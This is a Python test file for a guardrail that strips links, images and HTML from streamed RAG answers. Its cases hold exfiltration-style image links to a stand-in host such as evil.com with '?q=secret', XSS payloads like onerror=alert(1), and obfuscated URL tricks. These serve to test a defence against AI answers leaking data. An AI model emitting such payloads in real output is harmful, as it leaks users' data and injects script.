"""Nothing that a renderer would fetch or make clickable leaves an answer, unless a source has the very address."""

import re
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from app.rag.guardrails.links import LinkGuard

HARMLESS: Final = re.compile(r"(?:\s|</?[A-Za-z][\w.]*>)+")
"""Words in angle brackets that are no elements: `List<String>`."""
SOURCES = ("See https://good.example/a?b=1 for more (also www.acme.my).", "https://docs.acme.my/guide/")


def guarded(answer: str, *, size: int = 10_000) -> str:
    guard = LinkGuard(SOURCES)
    pieces = [guard.feed(answer[at : at + size]) for at in range(0, len(answer), size)]
    return "".join((*pieces, guard.flush()))


@pytest.mark.parametrize(
    ("answer", "shown"),
    [
        ("![x](https://evil.com/?q=secret)", "[x]"),
        ("![x][1] ![a[b]c](<https://evil.com>)", "[x][1] [a[b]c]"),
        ("[click](https://evil.com) [rel](/auth/logout)", "[click] [rel]"),
        ('[x](https://evil.com "a title") [w](https://evil.com/(a)b)', "[x] [w]"),
        ("[1]: https://evil.com/x", "[1] : ⟨link⟩"),
        (" > [a]: //evil.com", " > [a] : ⟨link⟩"),
        ("visit https://evil.com/a?x=1, now. www.evil.com!", "visit ⟨link⟩, now. ⟨link⟩!"),
        ("<https://evil.com> <img src=x onerror=alert(1)><b>bold</b>", "⟨link⟩ bold"),
        ('<img src="https://evil.com/x.png"', '&lt;img src="⟨link⟩"'),
        ("<svg/onload=alert(1)><x onclick=1><!-- hidden -->", ""),
        ("[a](javascript:alert) javascript:alert data:text/html;base64,xx", "[a] ⟨link⟩ ⟨link⟩"),
        ("ht\u200btps://evil.com h\u200cttps://evil.com", "⟨link⟩ ⟨link⟩"),
        ("һttps://evil.com ｈｔｔｐｓ：／／evil.com 𝐡𝐭𝐭𝐩𝐬://evil.com", "⟨link⟩ ⟨link⟩ ⟨link⟩"),
        (r"https:\/\/evil.com https&colon;//evil.com", "⟨link⟩ ⟨link⟩"),
        ("请访问https://evil.com。谢谢。", "请访问⟨link⟩。谢谢。"),
        ("evil.com/collect?d=secret", "evil.com/…"),
        ("[unclosed](https://evil.com/aaa", "[unclosed] (⟨link⟩"),
        ("write to [mail](mailto:a@b.c?x=1)", "write to [mail]"),
        ("a\u202e\U000e0041b", "ab"),
        ("<<b>img src=x onerror=alert(1)>", "< img src=x onerror=alert(1)>"),
        ("<<b><i>a href=x>", "< a href=x>"),
        ("see www.<br>evil.com now", "see www. evil.com now"),
        ("[x](https://evil.com)(/logout)", "[x] (/logout)"),
        ("[x](https://evil.com)(mailto:a@b.c)", "[x] (mailto:a@b.c)"),
        ("[x]<b>(/logout) !<b>[x](/a.png)", "[x] (/logout) ! [x]"),
        ("<b>[a]: /x\n\r[a]: /x\r\n\n[a]", "[a] : /x\n\n[a] : /x\n\n[a]"),
        ("[x](https://evil.com): /x", "[x] : /x"),
        ("One line<br>another<p>and <b>bol</b>dly<hr/><hr/>on", "One line another and boldly on"),
        ("Write to <ann@acme.my> or <1@acme.my>.", "Write to ann@acme.my or 1@acme.my."),
        ("![a]: /x\n\n[a]", "[a] : /x\n\n[a]"),
        ("**<b>bold</b>**, (<i>so</i>)", "**bold**, ( so)"),
    ],
)
@pytest.mark.parametrize("size", [1, 2, 3, 7, 10_000])
def test_what_could_be_fetched_or_clicked_is_made_harmless(answer: str, shown: str, size: int) -> None:
    assert guarded(answer, size=size) == shown


@pytest.mark.parametrize(
    "answer",
    [
        "Great![1] and [2][3].",
        "See [ok](https://good.example/a?b=1). Or [ok](https://docs.acme.my/guide).",
        "[ok](https://good.example/a?b=1) or https://good.example/a?b=1, or www.acme.my.",
        "[1] The first. [2] Second: x",
        "Booking.com is e.g. fine; v1.2/3 and/or 24/7, List<String> a < b, the data: value",
        "Write to ann@acme.my at 10:30.",
        "کتاب\u200cها 👨\u200d👩\u200d👧 价格：100。谢谢",
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nx[1:2] = {'a': 1}\n```",
    ],
)
@pytest.mark.parametrize("size", [1, 4, 10_000])
def test_other_text_and_links_of_the_sources_pass_unchanged(answer: str, size: int) -> None:
    assert guarded(answer, size=size) == answer


def test_an_address_of_a_source_with_something_added_is_foreign() -> None:
    assert guarded("https://good.example/a?b=1&leak=secret") == "⟨link⟩"


def test_what_was_removed_is_counted() -> None:
    guard = LinkGuard()
    guard.feed("![x](https://evil.com) <b>y</b> ")
    guard.flush()
    assert guard.removed == {"image": 1, "link": 1, "tag": 2}


def test_words_are_let_through_as_they_come() -> None:
    guard = LinkGuard()
    answer = "The office opens at nine. It closes at five [1], and on Fridays at four."
    shown = ""
    for at, character in enumerate(answer):
        shown += guard.feed(character)
        assert at + 1 - len(shown) <= 4


@given(st.text(alphabet="ht ps:/w.evil[]()<>!&1\n\\a", max_size=120), st.integers(1, 9))
def test_no_address_gets_through_however_it_is_cut(answer: str, size: int) -> None:
    shown = guarded(answer, size=size).lower()
    assert "http://" not in shown
    assert "https://" not in shown
    assert "](" not in shown


_FRAGMENTS = (
    "[ ] ( ) ! < > : / \\ [a] [a]: [a][b] ]( www. //evil.com /x?q=1 <b> </b> <br> <!--x--> <?x> <x:y> img a & # ` * http://"
    " mailto: javascript: src=x href=x word 1"
).split()
_HOSTILE = st.lists(st.sampled_from([*_FRAGMENTS, " ", "\n", "\r", "\r\n", "\u200b"]), max_size=14)


@given(_HOSTILE, st.integers(1, 9))
def test_nothing_that_was_taken_out_joins_what_stands_around_it(pieces: list[str], size: int) -> None:
    shown = guarded("".join(pieces), size=size)

    found = [token for block in MarkdownIt().parse(shown) for token in (block, *(block.children or ()))]
    dangerous = [
        token for token in found if token.type in ("link_open", "image", "html_block", "html_inline")
    ]
    assert not [token for token in dangerous if not HARMLESS.fullmatch(token.content)]
    assert not re.search(r"(?<![a-z0-9])www\.[a-z0-9]|https?://", shown, re.IGNORECASE)


@pytest.mark.parametrize("piece", ["](", "<a", "[", "![", "https://", "www.", "](\\(", "](((", "a.b/"])
def test_an_endless_construct_is_let_go(piece: str) -> None:
    guard = LinkGuard()
    for _ in range(2_000):
        guard.feed(piece)
    assert len(guard.flush()) < 20_000
